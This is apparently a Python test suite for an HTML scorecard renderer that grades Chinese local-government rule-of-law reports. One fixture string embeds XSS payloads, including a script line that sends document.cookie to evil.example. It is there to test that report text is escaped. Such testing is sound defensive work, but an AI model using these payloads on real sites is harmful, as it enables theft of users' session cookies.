"""HTML scorecards: every seed through the real pipeline; content checked against the report
itself; report text is data (escaped), never markup; files named from the input, written whole."""

from __future__ import annotations

import re
from html import unescape
from pathlib import Path

import pytest

from checker.pipeline import Options, check_file
from checker.render import output_stem
from checker.render.scorecard import fmt_points, render_html
from conftest import SEEDS, check_text

HOSTILE = """关于2023年度法治政府建设情况的报告<script>alert('title')</script>
某某县人民政府
一、主要举措和成效
我县健全依法决策机制，<img src=x onerror="alert(1)">重大行政决策严格履行公众参与、专家论证、风险评估、合法性审查和集体讨论决定程序。
<script>document.location='http://evil.example/'+document.cookie</script>
二、存在的不足和原因
执法队伍专业化水平还不够高，原因是培训投入不足。
三、下一步工作安排
继续推进严格规范公正文明执法。
"""


@pytest.fixture(scope="module")
def rendered(tmp_path_factory):
    """seed path -> (report, html text), written by the pipeline as ``check -f html`` does."""
    out = tmp_path_factory.mktemp("html")
    result = {}
    for seed in SEEDS:
        outcome = check_file(str(seed), Options(out_dir=out, per_report_formats=("html",)))
        assert outcome.error is None, outcome.error
        assert outcome.outputs == [str((out / (output_stem(str(seed)) + ".html")).resolve())]
        result[seed] = (outcome.report, Path(outcome.outputs[0]).read_text(encoding="utf-8"))
    return result


def _text(html: str) -> str:
    """Visible text, tags dropped and entities decoded (what a reader sees)."""
    return unescape(re.sub(r"<[^>]+>", "", html))


@pytest.mark.parametrize("seed", SEEDS, ids=lambda p: p.name[:3])
def test_header_chart_and_table_show_the_report(seed, rendered):
    report, html = rendered[seed]
    head = html.split('<section class="findings">')[0]
    text = _text(head)
    assert fmt_points(report.score) in text and report.grade in text
    assert ("未通过" if not report.passed else "通过") in text
    if report.metadata.issuer:
        assert report.metadata.issuer in text
    assert report.rulebook_id in text and "审查日期" in text
    svg = re.search(r"<svg class=\"chart\".*?</svg>", head, re.S).group(0)
    for e in report.elements:
        assert f">{e.name}</text>" in svg, e.name  # one bar label per element
        row = re.search(rf'<tr id="el-{e.id}".*?</tr>', head, re.S).group(0)
        assert e.name in row and f"badge {e.status}" in row
        for ev in e.evidence:  # evidence lines link into the annotated text
            assert f'href="#L{ev.line}"' in row
        if e.status != "present" and e.advice:
            assert e.advice in _text(row)


@pytest.mark.parametrize("seed", SEEDS, ids=lambda p: p.name[:3])
def test_annotated_text_has_every_line_and_marks_every_evidence(seed, rendered):
    report, html = rendered[seed]
    lines = seed.read_text(encoding="utf-8").splitlines()
    body = html.split('<section class="annotated">')[1]
    paras = dict(re.findall(r'<p id="L(\d+)">(.*?)</p>', body, re.S))
    assert sorted(map(int, paras)) == list(range(1, len(lines) + 1))
    for n, line in enumerate(lines, 1):  # the report's own words, whole, under its own number
        p = paras[str(n)]
        assert p.startswith(f'<span class="no">{n}</span>')
        assert _text(re.sub(r'<span class="(no|tags)">.*?</span>', "", p)) == line
    for e in report.elements:
        for ev in e.evidence:
            p = paras[str(ev.line)]
            assert "<mark" in p, (e.id, ev.line)
            assert f'href="#el-{e.id}"' in p and e.name in p  # margin label back to the table


def test_self_contained_no_scripts_no_external_urls(rendered):
    for _, html in rendered.values():
        assert "<script" not in html.lower() and "<link" not in html.lower()
        assert all(h.startswith("#") for h in re.findall(r'href="([^"]*)"', html))
        assert not re.search(r'\bsrc=', html)


def test_markup_in_a_report_is_shown_as_text():
    report = check_text(HOSTILE, path="hostile.txt")
    report.lines = HOSTILE.splitlines()
    html = render_html(report)
    low = html.lower()
    assert "<script" not in low and "<img" not in low
    assert "&lt;script&gt;document.location=" in html
    assert "&lt;img src=x onerror=&#34;alert(1)&#34;&gt;" in html
    assert "<script>document.location='http://evil.example/'" in _text(html)  # still visible, as text


def test_files_named_from_the_input_and_input_untouched(tmp_path):
    from checker.cli.main import main

    src = tmp_path / "in" / "县政府 2023 报告.txt"
    src.parent.mkdir()
    data = SEEDS[0].read_bytes()
    src.write_bytes(data)
    out = tmp_path / "out"
    with pytest.raises(SystemExit) as e:
        main([str(src), "--format", "html", "-o", str(out)])
    assert e.value.code in (0, 1)
    assert [p.name for p in out.iterdir()] == ["县政府 2023 报告.html"]  # no temporary files left
    assert src.read_bytes() == data and sorted(p.name for p in src.parent.iterdir()) == [src.name]


def test_failed_render_leaves_previous_file_whole(tmp_path, monkeypatch):
    import checker.render.html as html_out

    report = check_text(HOSTILE, path=str(tmp_path / "r.txt"))
    target = tmp_path / "out" / "r.html"
    target.parent.mkdir()
    target.write_text("旧的评分卡", encoding="utf-8")

    def interrupted(*a, **k):  # the page is streamed: the write fails half-way through it
        yield "<html>"
        raise RuntimeError("interrupted")

    monkeypatch.setattr(html_out, "stream_html", interrupted)
    with pytest.raises(RuntimeError):
        html_out.write(report, Options(out_dir=target.parent))
    assert target.read_text(encoding="utf-8") == "旧的评分卡"
    assert [p.name for p in target.parent.iterdir()] == ["r.html"]


def test_html_and_text_output_never_import_weasyprint(tmp_path):
    """WeasyPrint (and Pango through it) is loaded only when a PDF is asked for."""
    import subprocess
    import sys

    code = (
        "import sys\n"
        "from checker.cli.main import main\n"
        "try:\n"
        f"    main([{str(SEEDS[0])!r}, '--format', 'html,json', '-o', {str(tmp_path)!r}, '-j', '1'])\n"
        "except SystemExit:\n"
        "    pass\n"
        "sys.stderr.write('WEASY=' + str(any(m.split('.')[0] == 'weasyprint' for m in sys.modules)))\n"
    )
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=str(SEEDS[0].parents[1]))
    assert "WEASY=False" in proc.stderr, proc.stderr[-500:]
    assert (tmp_path / (SEEDS[0].stem + ".html")).exists()


def test_a_long_element_name_is_shortened_in_the_chart_only():
    """A local rulebook may name an element at length. Left of its bar the chart has room for
    14 Chinese characters: a longer name ends in … there (its whole name is the SVG title, and
    the table row below has it whole), and no label runs into the swatch or off the chart."""
    from checker.render.scorecard import _LABEL_ROOM, _chart_label

    report = check_text(HOSTILE, path="long.txt")
    long_cn, long_en = "本省自定的一个名称特别长的要素用来试验图表标签", "Rule-of-law government construction measures"
    report.elements[0].name, report.elements[1].name = long_cn, long_en
    html = render_html(report, "2026-01-01")
    svg = re.search(r"<svg class=\"chart\".*?</svg>", html, re.S).group(0)
    labels = re.findall(r'text-anchor="end"[^>]*>(?:<title>(.*?)</title>)?(.*?)</text>', svg)
    assert labels[0] == (long_cn, _chart_label(long_cn)) and labels[0][1].endswith("…")
    assert labels[1] == (long_en, _chart_label(long_en)) and labels[1][1].endswith("…")
    assert all(title == "" for title, _ in labels[2:])  # names that fit are left whole
    for name in (long_cn, long_en):
        assert name in _text(re.search(r'<table class="elements">.*?</table>', html, re.S).group(0))
    assert _chart_label("依法行政制度体系与规范性文件") == "依法行政制度体系与规范性文件"  # the longest national name
    for name in (long_cn, long_en, "A" * 40, "名" * 40):  # every label fits its room
        label = _chart_label(name)
        assert sum(10 if "\u2e80" <= c <= "\u9fff" or c == "…" else 6 for c in label) <= _LABEL_ROOM
